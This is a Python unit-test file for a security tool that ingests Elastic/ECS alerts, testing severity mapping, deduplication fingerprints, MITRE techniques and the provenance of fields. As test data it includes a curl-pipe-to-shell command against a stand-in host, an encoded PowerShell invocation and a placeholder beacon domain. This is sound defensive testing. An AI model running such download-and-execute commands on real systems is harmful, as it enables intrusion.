"""Elastic alerts and other documents of ECS."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from aurora.ingest.dedup import fingerprint
from aurora.ingest.formats.registry import Formats
from aurora.kernel.errors import RecordRejected
from aurora.kernel.evidence import Provenance
from aurora.kernel.models import Severity
from tests.unit.ingest.alert_fixtures import alert, document, entities, field, observables, provenance

RULE = "a1b2c3d4-0000-4000-8000-000000000001"


@pytest.mark.parametrize("name", ["nested", "mixed_spelling", "hit_with_source", "signal_of_version_7"])
def test_every_spelling_of_an_alert_is_the_same_alert(name: str) -> None:
    first, other = alert("elastic/flattened"), alert(f"elastic/{name}")

    assert fingerprint(other) == fingerprint(first)
    assert (other.rule, other.severity, other.time) == (RULE, first.severity, first.time)
    assert other.mitre_techniques == ("T1059", "T1059.001")


def test_lists_of_the_fields_of_a_hit_are_values() -> None:
    normalised = alert("elastic/hit_with_fields")

    assert normalised.rule == RULE
    assert normalised.severity is Severity.HIGH
    assert normalised.mitre_techniques == ("T1059", "T1059.001")
    assert ("user", "corp\\kim") in entities(normalised)
    assert field(normalised, "process.args") == ["powershell.exe -enc SQBFAFgA"]


@pytest.mark.parametrize(
    ("word", "score", "expected"),
    [
        ("low", 99, Severity.LOW),
        ("critical", 1, Severity.CRITICAL),
        ("Medium", None, Severity.MEDIUM),
        (None, 0, Severity.LOW),
        (None, 21, Severity.LOW),
        (None, 22, Severity.MEDIUM),
        (None, 47.5, Severity.HIGH),
        (None, 73, Severity.HIGH),
        (None, 74, Severity.CRITICAL),
        (None, 1000, Severity.MEDIUM),
        (None, None, Severity.MEDIUM),
        ("terrible", None, Severity.MEDIUM),
    ],
)
def test_the_word_of_the_rule_wins_over_the_score(word: str | None, score: float | None, expected: Severity) -> None:
    changes = {"kibana.alert.severity": word, "kibana.alert.risk_score": score}

    assert alert("elastic/minimal", **changes).severity is expected


def test_what_an_alert_says_of_itself_wins_over_its_rule() -> None:
    normalised = alert("elastic/flattened", **{"kibana.alert.severity": "low", "kibana.alert.rule.severity": "high"})

    assert normalised.severity is Severity.LOW


def test_the_severity_of_another_source_is_not_compared_with_elastics() -> None:
    event = document("elastic/suricata_in_ecs")["event"]

    assert alert("elastic/suricata_in_ecs").severity is Severity.HIGH
    assert alert("elastic/suricata_in_ecs", event=event | {"module": "lab", "severity": 3}).severity is Severity.MEDIUM
    assert (
        alert("elastic/suricata_in_ecs", event=event | {"module": "lab", "severity": 99}).severity is Severity.CRITICAL
    )


def test_an_alert_that_a_rule_passes_on_keeps_the_sources_own_rule_apart() -> None:
    event = document("elastic/defend_promoted")["event"]

    first, other = (
        alert("elastic/defend_promoted"),
        alert("elastic/defend_promoted", event=event | {"code": "ransomware"}),
    )

    assert first.rule == "9a1a2dae-0000-4000-8000-000000000002/malicious_file"
    assert fingerprint(first) != fingerprint(other)


def test_a_name_taken_from_the_event_is_the_sensors_only_if_defend_wrote_it() -> None:
    assert provenance(alert("elastic/name_from_event"), "rule.name") is Provenance.ATTACKER_WRITABLE
    assert provenance(alert("elastic/defend_promoted"), "rule.name") is Provenance.SENSOR
    assert provenance(alert("elastic/flattened"), "rule.name") is Provenance.SENSOR


def test_an_alert_of_defend_needs_no_rule_of_kibana() -> None:
    malware, behaviour = alert("elastic/defend_malware"), alert("elastic/defend_behaviour")

    assert (malware.title, malware.rule, malware.severity) == (
        "Malware Prevention Alert",
        "malicious_file",
        Severity.HIGH,
    )
    assert "blocked" in field(malware, "event.action")
    assert behaviour.rule == "b7b7b7b7-0000-4000-8000-000000000003"
    assert behaviour.mitre_techniques == ("T1218", "T1218.005")
    assert "blocked" not in field(behaviour, "event.action")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("flattened", Provenance.SENSOR),
        ("okta_sign_in", Provenance.IDENTITY_SERVER),
        ("failed_logons", Provenance.ATTACKER_WRITABLE),
        ("linux_container", Provenance.SENSOR),
    ],
)
def test_who_vouches_for_a_user_depends_on_who_recorded_it(name: str, expected: Provenance) -> None:
    assert provenance(alert(f"elastic/{name}"), "user.name") is expected


def test_a_user_of_a_log_line_without_an_id_is_the_lines_word() -> None:
    normalised = alert("elastic/web_request", user={"name": "kim"})

    assert provenance(normalised, "user.name") is Provenance.ATTACKER_WRITABLE


def test_what_was_asked_for_is_the_attackers_and_what_was_seen_is_not() -> None:
    request, process = alert("elastic/web_request"), alert("elastic/flattened")

    for name in ("url.full", "url.query", "user_agent.original", "http.request.referrer"):
        assert provenance(request, name) is Provenance.ATTACKER_WRITABLE, name
    assert provenance(request, "source.ip") is Provenance.SENSOR
    assert provenance(process, "process.executable") is Provenance.SENSOR
    assert provenance(process, "process.command_line") is Provenance.ATTACKER_WRITABLE
    assert provenance(process, "event.reason") is Provenance.ATTACKER_WRITABLE


def test_words_of_a_command_stand_in_where_the_line_is_missing() -> None:
    assert field(alert("elastic/linux_container"), "process.args") == ["sh -c curl http://files.example.net/x | sh"]
    assert field(alert("elastic/flattened"), "process.args") == []


def test_what_the_events_of_a_threshold_had_in_common_is_read() -> None:
    normalised = alert("elastic/threshold")

    assert {("host", "dc-1"), ("address", "198.51.100.20")} <= entities(normalised)


def test_why_an_analyst_closed_an_alert_is_a_persons_word() -> None:
    normalised = alert("elastic/closed_false_positive")

    assert field(normalised, "event.classification") == ["false_positive"]
    assert provenance(normalised, "event.classification") is Provenance.HUMAN


def test_hashes_names_and_mail_are_observables() -> None:
    assert {kind for kind, _ in observables(alert("elastic/defend_malware"))} == {
        "file_path",
        "hash_md5",
        "hash_sha1",
        "hash_sha256",
    }
    assert ("domain", "beacon.example.net") in observables(alert("elastic/dns_and_registry"))
    assert ("mailbox", "lee@corp.example") in entities(alert("elastic/email_and_cloud"))


def test_a_time_in_milliseconds_is_that_time() -> None:
    assert alert("elastic/time_in_milliseconds").time == datetime(2026, 11, 20, 8, 15, 0, 123000, tzinfo=UTC)
    assert alert("elastic/time_unreadable").time is None


def test_revoked_techniques_are_those_of_today() -> None:
    normalised = alert("elastic/revoked_techniques")

    assert normalised.mitre_techniques == ("T1547.001",)
    assert field(normalised, "threat.technique.unmapped") == ["T9999"]


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("context_process_event", "event"),
        ("context_metric", "metric"),
        ("context_without_kind", "event"),
        ("context_observability_alert", "infrastructure"),
        ("context_hit", "event"),
    ],
)
def test_documents_that_are_no_alerts_of_security_are_context(name: str, kind: str) -> None:
    assert Formats().by_id("elastic").context(document(f"elastic/{name}")) == kind


def test_a_windows_event_of_a_beat_is_left_to_windows_and_an_alert_about_one_is_not() -> None:
    winlog = {"winlog": {"event_id": "4625", "channel": "Security"}}
    elastic = Formats().by_id("elastic")

    assert not elastic.matches(document("elastic/context_process_event") | winlog)
    assert elastic.matches(document("elastic/flattened") | winlog)


def test_what_has_an_odd_type_is_named_and_the_rest_is_read() -> None:
    normalised = alert("elastic/odd_types")

    assert field(normalised, "aurora.unread") == ["host.1, user.name, process, kibana.alert.severity"]
    assert ("host", "ws-7") in entities(normalised)


def test_without_a_name_there_is_no_alert() -> None:
    with pytest.raises(RecordRejected) as refused:
        alert("elastic/minimal", **{"kibana.alert.rule.name": " "})

    assert (refused.value.field, refused.value.reason) == ("kibana.alert.rule.name", "missing_field")
